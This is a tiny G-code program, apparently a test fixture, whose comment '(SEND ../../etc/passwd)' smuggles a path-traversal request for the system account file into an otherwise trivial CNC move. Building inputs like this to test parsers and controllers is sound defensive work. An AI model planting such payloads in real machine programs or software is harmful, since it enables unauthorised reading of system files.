%
O1 (SEND ../../etc/passwd)
G0 X1
%